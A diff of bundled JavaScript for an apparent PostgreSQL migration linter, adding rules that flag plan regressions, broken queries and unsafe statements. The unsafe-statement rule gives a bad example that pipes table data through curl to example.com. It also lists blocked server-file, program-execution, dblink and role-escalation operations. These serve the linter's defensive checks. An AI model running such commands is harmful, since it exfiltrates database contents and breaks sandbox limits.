+  if (m = /^invalid input syntax for type (.+?):/.exec(text2)) return { kind: "types", types: [m[1]] };
+  return void 0;
+}
+function operandTypes(signature) {
+  const [left, , right] = /^(?:(.+) )?([-+*/<>=~!@#%^&|`?]+) (.+)$/.exec(signature)?.slice(1) ?? [];
+  return [left, right].filter((t) => !!t).map((t) => t.replace(/\[\]$/, ""));
+}
+function lastPart(name) {
+  return name.slice(name.lastIndexOf(".") + 1);
+}
+function findBreakingStatement(message, statements) {
+  const missing = readMessage(message);
+  if (!missing) return void 0;
+  const found = statements.find((s) => breaks(s.stmt, missing)) ?? // A function that still exists no longer takes the arguments it is given: a column's type changed.
+  (missing.kind === "function" ? statements.find((s) => breaks(s.stmt, { kind: "types", types: missing.types })) : void 0);
+  return found && { file: found.file, index: found.index };
+}
+function breaks(stmt, missing) {
+  const [type, node] = Object.entries(stmt ?? {})[0] ?? [];
+  if (!type || typeof node !== "object" || node === null) return false;
+  const n = node;
+  switch (missing.kind) {
+    case "column":
+      if (missing.relation !== void 0 && n.relation?.relname !== missing.relation) return false;
+      if (type === "AlterTableStmt") return commands(n).some((c) => c.subtype === "AT_DropColumn" && c.name === missing.name);
+      return type === "RenameStmt" && n.renameType === "OBJECT_COLUMN" && n.subname === missing.name;
+    case "relation":
+      if (type === "DropStmt" && RELATION_KINDS.has(n.removeType)) {
+        return objectNames(n).some((names3) => names3.at(-1) === missing.name && (missing.schema === void 0 || names3.at(-2) === missing.schema));
+      }
+      if (type === "RenameStmt" && RELATION_KINDS.has(n.renameType) || type === "AlterObjectSchemaStmt" && RELATION_KINDS.has(n.objectType)) {
+        return isRelation(n.relation, missing.name, missing.schema);
+      }
+      return missing.schema !== void 0 && breaks(stmt, { kind: "schema", name: missing.schema });
+    case "function":
+      if (type === "DropStmt" && FUNCTION_KINDS.has(n.removeType)) return objectNames(n).some((names3) => names3.at(-1) === missing.name);
+      if (type === "RenameStmt" && FUNCTION_KINDS.has(n.renameType) || type === "AlterObjectSchemaStmt" && FUNCTION_KINDS.has(n.objectType)) {
+        return stringNames(n.object?.ObjectWithArgs?.objname).at(-1) === missing.name;
+      }
+      return false;
+    case "type":
+      if (type === "DropStmt" && TYPE_KINDS.has(n.removeType)) return objectNames(n).some((names3) => names3.at(-1) === missing.name);
+      if (type === "RenameStmt" && TYPE_KINDS.has(n.renameType) || type === "AlterObjectSchemaStmt" && TYPE_KINDS.has(n.objectType)) {
+        return stringNames(n.object?.List?.items).at(-1) === missing.name;
+      }
+      return false;
+    case "schema":
+      if (type === "DropStmt" && n.removeType === "OBJECT_SCHEMA") return objectNames(n).some((names3) => names3[0] === missing.name);
+      return type === "RenameStmt" && n.renameType === "OBJECT_SCHEMA" && n.subname === missing.name;
+    case "types":
+      return retypes(type, n, missing);
+  }
+}
+function retypes(type, n, missing) {
+  if (type !== "AlterTableStmt") return false;
+  return commands(n).some(
+    (c) => c.subtype === "AT_AlterColumnType" && (missing.column === void 0 || c.name === missing.column) && missing.types.includes(typeDisplayName(stringNames(c.def?.ColumnDef?.typeName?.names)))
+  );
+}
+function commands(n) {
+  return (n.cmds ?? []).map((c) => c.AlterTableCmd ?? {});
+}
+function isRelation(relation, name, schema) {
+  return relation?.relname === name && (schema === void 0 || relation.schemaname === schema);
+}
+function objectNames(n) {
+  return (n.objects ?? []).map(
+    (o) => stringNames(o.List?.items ?? o.TypeName?.names ?? o.ObjectWithArgs?.objname ?? (o.String ? [o] : []))
+  );
+}
+function stringNames(items) {
+  return Array.isArray(items) ? items.map((i) => i.String?.sval).filter((s) => typeof s === "string") : [];
+}
+function typeDisplayName(names3) {
+  const name = names3.at(-1) ?? "";
+  return BUILTIN_TYPE_NAMES[name] ?? name;
+}
+var DEFAULT_COMPARE_OPTIONS, INDEX_ACCESS, RELATION_KINDS, FUNCTION_KINDS, TYPE_KINDS, BUILTIN_TYPE_NAMES;
+var init_compare = __esm({
+  "src/explain/compare.ts"() {
+    "use strict";
+    init_text2();
+    init_walk();
+    DEFAULT_COMPARE_OPTIONS = { costIncrease: 0.1, trivialCost: 10 };
+    INDEX_ACCESS = /* @__PURE__ */ new Set(["Index Scan", "Index Only Scan", "Bitmap Heap Scan"]);
+    RELATION_KINDS = /* @__PURE__ */ new Set(["OBJECT_TABLE", "OBJECT_VIEW", "OBJECT_MATVIEW", "OBJECT_FOREIGN_TABLE", "OBJECT_SEQUENCE"]);
+    FUNCTION_KINDS = /* @__PURE__ */ new Set(["OBJECT_FUNCTION", "OBJECT_PROCEDURE", "OBJECT_ROUTINE", "OBJECT_AGGREGATE"]);
+    TYPE_KINDS = /* @__PURE__ */ new Set(["OBJECT_TYPE", "OBJECT_DOMAIN"]);
+    BUILTIN_TYPE_NAMES = {
+      int2: "smallint",
+      int4: "integer",
+      int8: "bigint",
+      float4: "real",
+      float8: "double precision",
+      bool: "boolean",
+      varchar: "character varying",
+      bpchar: "character",
+      timestamp: "timestamp without time zone",
+      timestamptz: "timestamp with time zone",
+      time: "time without time zone",
+      timetz: "time with time zone",
+      varbit: "bit varying"
+    };
+  }
+});
+
+// src/rules/plan-regression.ts
+var plan_regression_default;
+var init_plan_regression = __esm({
+  "src/rules/plan-regression.ts"() {
+    "use strict";
+    init_rule();
+    init_compare();
+    plan_regression_default = defineRule({
+      meta: {
+        id: "plan-regression",
+        category: "plan",
+        severity: "warning",
+        summary: "A query's plan gets worse on the schema after the change: an index scan is lost or the estimated cost rises.",
+        why: "The change removes or alters something the planner relied on: a dropped or rebuilt index, a column whose new type no longer matches the index or the comparison, statistics that a rewrite threw away. A query that found its rows through an index now reads the whole table, on every call, from the moment the migration commits; on a large table that is a slow query for every user and more load on the server, and it does not show up in review because the query itself did not change.",
+        safeAlternative: "Keep an index the query needs, or create its replacement (CREATE INDEX CONCURRENTLY) in an earlier migration than the one that drops the old one. After a change that rewrites a table (ALTER COLUMN ... TYPE), run ANALYZE on it in the migration so the planner has statistics again. If the new plan is expected, raise `costIncrease` or ignore the finding.",
+        postgres: {
+          note: "Costs are the planner's estimates and their scale differs between major versions; both plans come from the same server and the same seeded data, so they compare with each other, not with production figures."
+        },
+        defaultOptions: DEFAULT_COMPARE_OPTIONS,
+        optionDocs: {
+          costIncrease: "Report a rise of the query's total estimated cost above this share of the cost before the change.",
+          trivialCost: "Never report a plan whose total estimated cost after the change is below this: it reads a handful of pages whatever the change did (RegreSQL uses the same gate)."
+        },
+        examples: {
+          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\nCREATE INDEX orders_customer_id_idx ON orders (customer_id);\nINSERT INTO orders SELECT g, 1 + g % 2000, g % 500 + 0.99 FROM generate_series(1, 100000) AS g;\nVACUUM ANALYZE orders;\n-- queries/orders.sql:\n-- SELECT id, total FROM orders WHERE customer_id = $1;",
+          bad: ["DROP INDEX CONCURRENTLY orders_customer_id_idx;"],
+          good: [
+            "ALTER TABLE orders ADD COLUMN note text;",
+            "CREATE INDEX CONCURRENTLY orders_customer_id_total_idx ON orders (customer_id) INCLUDE (total);\nDROP INDEX CONCURRENTLY orders_customer_id_idx;"
+          ]
+        },
+        references: [
+          "https://www.postgresql.org/docs/current/using-explain.html",
+          "https://www.postgresql.org/docs/current/planner-stats.html",
+          "https://www.postgresql.org/docs/current/sql-dropindex.html"
+        ]
       },
       create: () => ({})
     });
@@ -3129,12 +3559,12 @@ var init_prefer_identity = __esm({
           statement(statement) {
             for (const column of columnDefinitions(statement)) {
               const names3 = column.def.typeName.names ?? [];
-              const integer = names3.length === 1 ? SERIAL_TYPES3.get(constantText(names3[0]) ?? "") : void 0;
-              if (!integer || column.kind === "alter-type") continue;
+              const integer2 = names3.length === 1 ? SERIAL_TYPES3.get(constantText(names3[0]) ?? "") : void 0;
+              if (!integer2 || column.kind === "alter-type") continue;
               const span = typeNameSpan(statement, column.def.typeName);
               if (!span) continue;
               const written = context.file.lines.slice(span.range);
-              const identity = `${integer} GENERATED BY DEFAULT AS IDENTITY`;
+              const identity = `${integer2} GENERATED BY DEFAULT AS IDENTITY`;
               const blocked = defaultChangedLater(context.file.statements, statement.index, column);
               context.report(statement, {
                 range: span.range,
@@ -3328,6 +3758,61 @@ var init_prefer_timestamptz = __esm({
   }
 });
 
+// src/rules/query-broken-by-change.ts
+var query_broken_by_change_default;
+var init_query_broken_by_change = __esm({
+  "src/rules/query-broken-by-change.ts"() {
+    "use strict";
+    init_rule();
+    query_broken_by_change_default = defineRule({
+      meta: {
+        id: "query-broken-by-change",
+        category: "plan",
+        severity: "error",
+        summary: "A query of the application fails on the schema after the change.",
+        why: "sql-preflight planned the query on the schema the change starts from, where it works, and again after the change, where PostgreSQL rejects it: a column, table, function or type it uses was dropped, renamed or given another type. The application keeps sending the query from the moment the migration runs until every instance runs code that no longer uses it, and each call fails with this error.",
+        safeAlternative: "Expand, then contract: deploy application code that no longer uses the old name or type first, and drop or rename in a later migration. For a rename, add the new column (or a view with the new name) and keep both until the old one is unused; for a type change, add a column of the new type, backfill it, and switch reads over before dropping the old one. If the query belongs to code that ships with this change, update it in the same pull request.",
+        examples: {
+          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);\n-- queries/orders.sql:\n-- SELECT id, total FROM orders WHERE customer_id = $1;",
+          bad: ["ALTER TABLE orders RENAME COLUMN total TO amount;", "ALTER TABLE orders DROP COLUMN total;"],
+          good: ["ALTER TABLE orders ADD COLUMN amount numeric(12, 2);"]
+        },
+        references: [
+          "https://www.postgresql.org/docs/current/sql-altertable.html",
+          "https://www.postgresql.org/docs/current/ddl-alter.html"
+        ]
+      },
+      create: () => ({})
+    });
+  }
+});
+
+// src/rules/query-plan-failed.ts
+var query_plan_failed_default;
+var init_query_plan_failed = __esm({
+  "src/rules/query-plan-failed.ts"() {
+    "use strict";
+    init_rule();
+    query_plan_failed_default = defineRule({
+      meta: {
+        id: "query-plan-failed",
+        category: "plan",
+        severity: "error",
+        summary: "A query of the change cannot be planned on the schema the migrations build.",
+        why: "sql-preflight replayed the migrations, ran the change and asked PostgreSQL to plan the query (EXPLAIN, with a generic plan for its parameters), and PostgreSQL rejected it: a misspelt column or table, a table that no migration creates, a type mismatch, a syntax error. The application would get the same error on its first call. Queries that worked before the change and fail after it are reported as query-broken-by-change instead.",
+        safeAlternative: "Fix the query so that it matches the schema, or add the migration that creates what it needs to the same change. If the object comes from outside the migrations (an extension, a role, a schema), list the SQL that creates it under `setup` in .sql-preflight.yml.",
+        examples: {
+          existing: "CREATE TABLE orders (\n  id bigint PRIMARY KEY,\n  customer_id bigint NOT NULL,\n  total numeric(12, 2) NOT NULL\n);",
+          bad: ["SELECT id, totl FROM orders WHERE customer_id = $1;", "SELECT id FROM order_lines WHERE order_id = $1;"],
+          good: ["SELECT id, total FROM orders WHERE customer_id = $1;"]
+        },
+        references: ["https://www.postgresql.org/docs/current/sql-explain.html", "https://www.postgresql.org/docs/current/sql-prepare.html"]
+      },
+      create: () => ({})
+    });
+  }
+});
+
 // src/rules/renaming-column.ts
 var TABLES3, renaming_column_default;
 var init_renaming_column = __esm({
@@ -3484,15 +3969,15 @@ function stripCast(side) {
   const cast = side.match(/^(.*?)::[a-z ]+(?:\([0-9, ]+\))?(?:\[\])?$/);
   return unwrap(cast ? cast[1] : side);
 }
-function unwrap(text) {
-  while (text.startsWith("(") && text.endsWith(")") && closingParen(text) === text.length - 1) text = text.slice(1, -1).trim();
-  return text;
+function unwrap(text2) {
+  while (text2.startsWith("(") && text2.endsWith(")") && closingParen(text2) === text2.length - 1) text2 = text2.slice(1, -1).trim();
+  return text2;
 }
-function closingParen(text) {
+function closingParen(text2) {
   let depth = 0;
   let quoted;
-  for (let i = 0; i < text.length; i++) {
-    const c = text[i];
+  for (let i = 0; i < text2.length; i++) {
+    const c = text2[i];
     if (quoted) {
       if (c === quoted) quoted = void 0;
     } else if (c === "'" || c === '"') {
@@ -3505,8 +3990,8 @@ function closingParen(text) {
   }
   return -1;
 }
-function unquote(identifier) {
-  return identifier.startsWith('"') ? identifier.slice(1, -1).replaceAll('""', '"') : identifier;
+function unquote(identifier2) {
+  return identifier2.startsWith('"') ? identifier2.slice(1, -1).replaceAll('""', '"') : identifier2;
 }
 var IDENTIFIER, COLUMN, OPERATORS;
 var init_conditions = __esm({
@@ -3550,9 +4035,9 @@ function removedPerLoop(node) {
   return (node["Rows Removed by Filter"] ?? 0) + (node["Rows Removed by Join Filter"] ?? 0) + (node["Rows Removed by Index Recheck"] ?? 0);
 }
 function pathTo(inner, culprit) {
-  const path2 = [];
-  for (let v = culprit; v && v !== inner.parent; v = v.parent) path2.unshift(v.node);
-  return path2;
+  const path3 = [];
+  for (let v = culprit; v && v !== inner.parent; v = v.parent) path3.unshift(v.node);
+  return path3;
 }
 var defaultOptions4, CACHES, repeated_inner_scan_default;
 var init_repeated_inner_scan = __esm({
@@ -3613,12 +4098,12 @@ var init_repeated_inner_scan = __esm({
           const side = subplan ? inner.node["Subplan Name"] ?? "its subquery" : "its inner side";
           const perRun = node["Node Type"] === "Seq Scan" ? `scans all of ${table}` : `reads ${formatCount(removedPerLoop(node) + (node["Actual Rows"] ?? 0))} rows of ${table} to keep ${formatCount(node["Actual Rows"] ?? 0)}`;
           const columns = comparedColumns([node.Filter, node["Join Filter"]].filter(Boolean).join(" AND "), node.Alias).map((c) => c.column);
-          const tableName3 = relationName2(node);
+          const tableName4 = relationName2(node);
           context.report({
             node: driver.node,
             quote: pathTo(inner, culprit),
             message: `${nodeLabel(driver.node)} runs ${side} ${repeated.estimated ? "an estimated " : ""}${formatCount(repeated.loops)} times, once per ${subplan ? "row" : "outer row"}, and each run ${perRun}: ${formatShare(repeated.share)} of its ${repeated.estimated ? "cost" : "time"} goes into repeating it.`,
-            help: columns.length && tableName3 ? `Index the columns each run looks up, so a run is an index lookup: CREATE INDEX CONCURRENTLY ON ${tableName3} (${columns.join(", ")}); (in a migration).${subplan ? " Or rewrite the subquery as a join with GROUP BY so it runs once." : " If the outer side returned more rows than estimated, fix that estimate so the planner can pick a hash join."}` : void 0,
+            help: columns.length && tableName4 ? `Index the columns each run looks up, so a run is an index lookup: CREATE INDEX CONCURRENTLY ON ${tableName4} (${columns.join(", ")}); (in a migration).${subplan ? " Or rewrite the subquery as a join with GROUP BY so it runs once." : " If the outer side returned more rows than estimated, fix that estimate so the planner can pick a hash join."}` : void 0,
             evidence: { loops: Math.round(repeated.loops), repeatedShare: Number(repeated.share.toFixed(3)), estimated: repeated.estimated }
           });
         }
@@ -3869,7 +4354,7 @@ var init_require_concurrent_reindex = __esm({
         ]
       },
       create(context) {
-        const describe4 = (node, statement) => {
+        const describe5 = (node, statement) => {
           const name = relationName(node.relation);
           switch (node.kind) {
             case "REINDEX_OBJECT_TABLE":
@@ -3895,7 +4380,7 @@ var init_require_concurrent_reindex = __esm({
         return {
           ReindexStmt(node, statement) {
             if (booleanOption(node.params, "concurrently")) return;
-            const message = describe4(node, statement);
+            const message = describe5(node, statement);
             if (!message) return;
             const written = (node.params ?? []).some((p) => p.DefElem?.defname === "concurrently");
             const kind = kindKeyword(statement);
@@ -4021,13 +4506,13 @@ var init_require_index_on_foreign_key = __esm({
               if (fk.tracked && !table) continue;
               const indexed = table ? table.indexes.filter((i) => !i.partial).map((i) => i.columns) : indexedColumnsInFile(context.file.statements, fk.relation);
               if (indexed.some((columns2) => leads(columns2, fk.columns))) continue;
-              const tableName3 = relationName(fk.relation);
+              const tableName4 = relationName(fk.relation);
               const quotedTable = [fk.relation.schemaname, fk.relation.relname].filter((p) => !!p).map(quoteIdentifier).join(".");
               const concurrently = context.isNewTable(fk.relation) ? "" : " CONCURRENTLY";
               const columns = fk.columns.join(", ");
               context.report(fk.statement, {
                 range: fk.range,
-                message: `Each row deleted from ${relationName(fk.referenced)}, or whose key changes, makes Postgres scan all of ${tableName3} for referencing rows, because no index on ${tableName3} starts with (${columns}).`,
+                message: `Each row deleted from ${relationName(fk.referenced)}, or whose key changes, makes Postgres scan all of ${tableName4} for referencing rows, because no index on ${tableName4} starts with (${columns}).`,
                 help: `CREATE INDEX${concurrently} ${quoteIdentifier(indexName(fk.relation.relname ?? "", fk.columns))} ON ${quotedTable} (${fk.columns.map(quoteIdentifier).join(", ")});`
               });
             }
@@ -4126,9 +4611,9 @@ function buildsIndex(constraint) {
   return (constraint.contype === "CONSTR_UNIQUE" || constraint.contype === "CONSTR_PRIMARY") && !constraint.indexname;
 }
 function nullableNote(table, columns) {
-  const nullable = columns.filter((c) => !table?.columns.get(c)?.notNull);
-  if (nullable.length === 0) return "";
-  return ` The primary key also makes ${nullable.join(", ")} NOT NULL, which scans the table under an ACCESS EXCLUSIVE lock: make them NOT NULL first without a long lock (see the setting-not-null rule).`;
+  const nullable2 = columns.filter((c) => !table?.columns.get(c)?.notNull);
+  if (nullable2.length === 0) return "";
+  return ` The primary key also makes ${nullable2.join(", ")} NOT NULL, which scans the table under an ACCESS EXCLUSIVE lock: make them NOT NULL first without a long lock (see the setting-not-null rule).`;
 }
 var BUILD, require_using_index_default;
 var init_require_using_index = __esm({
@@ -4177,9 +4662,9 @@ var init_require_using_index = __esm({
                   help: `Build the index first, outside a transaction block: \`CREATE UNIQUE INDEX CONCURRENTLY ${index} ON ${table} (${columns.join(", ")});\`, then attach it: \`ALTER TABLE ${table} ADD CONSTRAINT ${index} ${kind} USING INDEX ${index};\`.` + (kind === "PRIMARY KEY" ? nullableNote(info, columns) : "")
                 });
               } else if (cmd.subtype === "AT_AddColumn") {
-                const unique = columnConstraints(column).find(buildsIndex);
-                if (!column || !unique) continue;
-                const kind = unique.contype === "CONSTR_PRIMARY" ? "PRIMARY KEY" : "UNIQUE";
+                const unique4 = columnConstraints(column).find(buildsIndex);
+                if (!column || !unique4) continue;
+                const kind = unique4.contype === "CONSTR_PRIMARY" ? "PRIMARY KEY" : "UNIQUE";
                 context.report(statement, {
                   range: range2,
                   message: `Adding column ${column.colname} with a ${kind} constraint to ${table} ${BUILD}.`,
@@ -4274,8 +4759,8 @@ function inputError(visit) {
   if (inputs.length === 0) return 1;
   if (JOINS.has(visit.node["Node Type"])) return inputs.reduce((product, child) => product * errorRatio(child.node), 1);
   const actual = inputs.reduce((sum, child) => sum + (child.node["Actual Rows"] ?? 0), 0);
-  const estimate2 = inputs.reduce((sum, child) => sum + (child.node["Plan Rows"] ?? 0), 0);
-  return Math.max(actual, 1) / Math.max(estimate2, 1);
+  const estimate3 = inputs.reduce((sum, child) => sum + (child.node["Plan Rows"] ?? 0), 0);
+  return Math.max(actual, 1) / Math.max(estimate3, 1);
 }
 var defaultOptions5, SKIPPED, CONDITION_KEYS2, row_misestimate_default, JOINS;
 var init_row_misestimate = __esm({
@@ -4320,10 +4805,10 @@ var init_row_misestimate = __esm({
         for (const visit of context.nodes) {
           const { node } = visit;
           const loops = node["Actual Loops"];
-          const estimate2 = node["Plan Rows"];
-          if (!loops || estimate2 === void 0 || SKIPPED.has(node["Node Type"])) continue;
+          const estimate3 = node["Plan Rows"];
+          if (!loops || estimate3 === void 0 || SKIPPED.has(node["Node Type"])) continue;
           const actual = node["Actual Rows"] ?? 0;
-          if (estimate2 < minRows && actual < minRows && actual * loops < minTotalRows) continue;
+          if (estimate3 < minRows && actual < minRows && actual * loops < minTotalRows) continue;
           const ratio = errorRatio(node);
           if (Math.max(ratio, 1 / ratio) < factor || ratio < 1 && stoppedEarly(visit)) continue;
           const own = ratio / inputError(visit);
@@ -4336,9 +4821,9 @@ var init_row_misestimate = __esm({
           const tables = relationsBelow(visit);
           context.report({
             node,
-            message: `${nodeLabel(node)} returned ${formatCount(actual)} rows${perLoop} where the planner expected ${formatCount(estimate2)} (${times}x ${more ? "more" : "fewer"})${misjudged ? `: the statistics misjudge ${misjudged}` : ""}, so what the planner built on this estimate was sized for the wrong amount of data.`,
+            message: `${nodeLabel(node)} returned ${formatCount(actual)} rows${perLoop} where the planner expected ${formatCount(estimate3)} (${times}x ${more ? "more" : "fewer"})${misjudged ? `: the statistics misjudge ${misjudged}` : ""}, so what the planner built on this estimate was sized for the wrong amount of data.`,
             help: tables.length ? `Run ANALYZE on ${tables.join(", ")}; if the conditions involve columns that depend on each other, create extended statistics on them (CREATE STATISTICS ... (dependencies, mcv) ON a, b FROM t) and ANALYZE again.` : void 0,
-            evidence: { estimatedRows: estimate2, actualRows: actual, loops, factor: times, direction: more ? "under" : "over" }
+            evidence: { estimatedRows: estimate3, actualRows: actual, loops, factor: times, direction: more ? "under" : "over" }
           });
         }
       }
@@ -4358,10 +4843,10 @@ function analyzed(visit) {
   const pages = pagesRead(node);
   return { read, returned, readPerScan: read / scans, pagesPerScan: pages === void 0 ? void 0 : pages / scans, estimated: false };
 }
-function estimated2(visit, tableRows) {
-  if (tableRows === void 0 || stopsEarly(visit)) return void 0;
+function estimated2(visit, tableRows2) {
+  if (tableRows2 === void 0 || stopsEarly(visit)) return void 0;
   const returned = (visit.node["Plan Rows"] ?? 0) * visit.processes;
-  return { read: tableRows, returned, readPerScan: tableRows, pagesPerScan: void 0, estimated: true };
+  return { read: tableRows2, returned, readPerScan: tableRows2, pagesPerScan: void 0, estimated: true };
 }
 function pagesRead(node) {
   const hit = node["Shared Hit Blocks"];
@@ -4422,18 +4907,18 @@ var init_selective_seq_scan = __esm({
           const filter = node.Filter;
           const table = relationName2(node);
           if (node["Node Type"] !== "Seq Scan" || !filter || !table) continue;
-          const scan = isAnalyzed(plan) ? analyzed(visit) : estimated2(visit, context.tableRows(node));
-          if (!scan || scan.read === 0) continue;
-          const kept = scan.returned / scan.read;
-          const large = scan.readPerScan >= options.minRows || (scan.pagesPerScan ?? 0) >= options.minPages;
+          const scan2 = isAnalyzed(plan) ? analyzed(visit) : estimated2(visit, context.tableRows(node));
+          if (!scan2 || scan2.read === 0) continue;
+          const kept = scan2.returned / scan2.read;
+          const large = scan2.readPerScan >= options.minRows || (scan2.pagesPerScan ?? 0) >= options.minPages;
           if (kept >= options.maxKeptShare || !large || workShare(plan, visit, true) < options.minRuntimeShare) continue;
           const columns = comparedColumns(filter, node.Alias).map((c) => c.column);
-          const verb = scan.estimated ? "would read" : "read";
+          const verb = scan2.estimated ? "would read" : "read";
           context.report({
             node,
-            message: `Seq Scan on ${table} ${verb} ${formatCount(scan.read)} rows to return ${scan.estimated ? "about " : ""}${formatCount(scan.returned)} (${formatShare(kept)}): the filter ${filter} is checked on every row of the table.`,
+            message: `Seq Scan on ${table} ${verb} ${formatCount(scan2.read)} rows to return ${scan2.estimated ? "about " : ""}${formatCount(scan2.returned)} (${formatShare(kept)}): the filter ${filter} is checked on every row of the table.`,
             help: columns.length ? `Create an index for the filter so Postgres reads only the matching rows: CREATE INDEX CONCURRENTLY ON ${table} (${columns.join(", ")}); (in a migration). If the query always uses the same value, a partial index with that WHERE clause is smaller.` : void 0,
-            evidence: { rowsRead: Math.round(scan.read), rowsReturned: Math.round(scan.returned), estimated: scan.estimated }
+            evidence: { rowsRead: Math.round(scan2.read), rowsReturned: Math.round(scan2.returned), estimated: scan2.estimated }
           });
         }
       }
@@ -4502,10 +4987,10 @@ var init_setting_not_null = __esm({
               const check = table?.constraints.find((c) => c.kind === "check" && c.notNullColumn === column);
               if (version >= 12 && check?.validated) continue;
               const pending = table?.constraints.find((c) => c.kind === "not-null" && !c.validated && c.columns.includes(column));
-              const scan = "scans the whole table under an ACCESS EXCLUSIVE lock, blocking reads and writes until the scan is done";
+              const scan2 = "scans the whole table under an ACCESS EXCLUSIVE lock, blocking reads and writes until the scan is done";
               context.report(statement, {
                 range: command.range,
-                message: pending?.name ? `Making ${column} NOT NULL on ${name} validates the NOT VALID constraint ${pending.name}: it ${scan}.` : `Making ${column} NOT NULL on ${name} ${scan}.`,
+                message: pending?.name ? `Making ${column} NOT NULL on ${name} validates the NOT VALID constraint ${pending.name}: it ${scan2}.` : `Making ${column} NOT NULL on ${name} ${scan2}.`,
                 help: pending?.name ? `Run \`ALTER TABLE ${name} VALIDATE CONSTRAINT ${pending.name};\` in its own transaction instead: it checks the rows without blocking reads or writes, and the column is NOT NULL afterwards.` : version >= 12 && check?.name ? `Validate the CHECK constraint first, in its own transaction: \`ALTER TABLE ${name} VALIDATE CONSTRAINT ${check.name};\` does not block reads or writes, and SET NOT NULL then skips its scan.` : help(version, name, node.relation?.relname ?? name, column)
               });
             }
@@ -4840,12 +5325,12 @@ var init_unbounded_result = __esm({
         const root = context.nodes[0];
         if (!root || root.node["Node Type"] === "ModifyTable" || limited(root)) return;
         const analyzed2 = isAnalyzed(plan);
-        const rows = analyzed2 ? (root.node["Actual Rows"] ?? 0) * (root.node["Actual Loops"] ?? 0) : root.node["Plan Rows"] ?? 0;
-        if (rows <= context.options.maxRows) return;
+        const rows2 = analyzed2 ? (root.node["Actual Rows"] ?? 0) * (root.node["Actual Loops"] ?? 0) : root.node["Plan Rows"] ?? 0;
+        if (rows2 <= context.options.maxRows) return;
         context.report({
           node: plan.Plan,
-          message: `The query ${analyzed2 ? "returned" : "is estimated to return"} ${formatCount(rows)} rows (${nodeLabel(plan.Plan)}) and has no LIMIT: the client receives and holds all of them, and their number grows with the table.`,
-          evidence: { rows: Math.round(rows), estimated: !analyzed2 }
+          message: `The query ${analyzed2 ? "returned" : "is estimated to return"} ${formatCount(rows2)} rows (${nodeLabel(plan.Plan)}) and has no LIMIT: the client receives and holds all of them, and their number grows with the table.`,
+          evidence: { rows: Math.round(rows2), estimated: !analyzed2 }
         });
       }
     });
@@ -4867,6 +5352,36 @@ var init_unreadable_file = __esm({
         why: "A migration that is not valid UTF-8 text is either not SQL at all or will be rejected by a UTF-8 database; none of it was checked.",
         safeAlternative: "Save the file as UTF-8, or remove binary files from the migration folder.",
         examples: { bad: [], good: ["SELECT 1;"] }
+      },
+      create: () => ({})
+    });
+  }
+});
+
+// src/rules/unsafe-statement-refused.ts
+var unsafe_statement_refused_default;
+var init_unsafe_statement_refused = __esm({
+  "src/rules/unsafe-statement-refused.ts"() {
+    "use strict";
+    init_rule();
+    unsafe_statement_refused_default = defineRule({
+      meta: {
+        id: "unsafe-statement-refused",
+        category: "trace",
+        severity: "error",
+        summary: "A statement reaches outside the throwaway database, so check did not run it.",
+        why: "A migration in a pull request is untrusted code, and check runs it on a database server. sql-preflight only runs what stays inside its own throwaway database: it does not run statements that act on other databases (CREATE, ALTER or DROP DATABASE), change the server (ALTER SYSTEM, LOAD, tablespaces), read or write its files or run programs (COPY ... PROGRAM, COPY with a file name, pg_read_file, lo_import, lo_export), connect elsewhere (dblink, postgres_fdw and other foreign data wrappers, foreign servers, user mappings, subscriptions), run code without a sandbox (untrusted languages, C functions), act on other sessions (pg_terminate_backend), switch roles (SET ROLE, SET SESSION AUTHORIZATION) or give roles server-wide powers (SUPERUSER, REPLICATION, BYPASSRLS, pg_execute_server_program and the like); function and DO bodies count where their SQL is static. The file stops at the refused statement, as it would at a failing one, so the statements after it were not checked on the database; the static findings still stand.",
+        safeAlternative: "Keep such statements out of migrations: configure servers, extensions that reach out, and file loads outside the migration history, by an administrator. If a migration really needs one, lower this rule in .sql-preflight.yml to acknowledge it; the statement still does not run in check.",
+        examples: {
+          existing: "CREATE TABLE orders (id bigint PRIMARY KEY);",
+          bad: ["COPY orders TO PROGRAM 'curl --data-binary @- https://example.com';", "CREATE EXTENSION dblink;"],
+          good: ["CREATE EXTENSION IF NOT EXISTS pg_trgm;"]
+        },
+        references: [
+          "https://www.postgresql.org/docs/current/sql-copy.html",
+          "https://www.postgresql.org/docs/current/predefined-roles.html",
+          "https://www.postgresql.org/docs/current/plpgsql-statements.html#PLPGSQL-STATEMENTS-EXECUTING-DYN"
+        ]
       },
       create: () => ({})
     });
@@ -5017,15 +5532,19 @@ var init_rules = __esm({
     init_down_migration_mismatch();
     init_identifier_too_long();
     init_index_only_heap_fetches();
+    init_index_suggestion();
     init_lossy_bitmap_scan();
     init_migration_failed();
     init_migration_layout();
     init_modified_migration();
+    init_plan_regression();
     init_prefer_bigint_keys();
     init_prefer_identity();
     init_prefer_jsonb();
     init_prefer_text();
     init_prefer_timestamptz();
+    init_query_broken_by_change();
+    init_query_plan_failed();
     init_renaming_column();
     init_renaming_table();
     init_repeated_inner_scan();
@@ -5048,6 +5567,7 @@ var init_rules = __esm({
     init_templated_sql();
     init_unbounded_result();
     init_unreadable_file();
+    init_unsafe_statement_refused();
     init_unused_ignore();
     init_validate_in_same_transaction();
     init_validation_scan();
@@ -5102,6 +5622,7 @@ var init_rules = __esm({
       down_migration_mismatch_default,
       modified_migration_default,
       base_migration_failed_default,
+      unsafe_statement_refused_default,
       // plan
       selective_seq_scan_default,
       row_misestimate_default,
@@ -5111,6 +5632,10 @@ var init_rules = __esm({
       lossy_bitmap_scan_default,
       cartesian_product_default,
       unbounded_result_default,
+      query_broken_by_change_default,
+      query_plan_failed_default,
+      plan_regression_default,
+      index_suggestion_default,
       // meta
       migration_layout_default,
       syntax_error_default,
@@ -5127,22 +5652,38 @@ function loadParser() {
   loaded ??= loadModule();
   return loaded;
 }
-function parseSql(text, byteLength2 = Buffer.byteLength(text, "utf8")) {
-  if (text.length === 0) return { ok: true, statements: [] };
+function parseSql(text2, byteLength2 = Buffer.byteLength(text2, "utf8")) {
+  if (text2.length === 0) return { ok: true, statements: [] };
+  let scanned;
+  try {
+    scanned = scanSync2(text2).tokens.filter((t) => !COMMENT_TOKENS.has(t.tokenName));
+  } catch {
+  }
+  const deep = scanned && tooDeep(scanned);
+  if (deep) {
+    return {
+      ok: false,
+      error: { message: `nesting deeper than ${MAX_NESTING} levels at or near "${deep.text}", which sql-preflight does not analyse`, offset: deep.start }
+    };
+  }
   let result2;
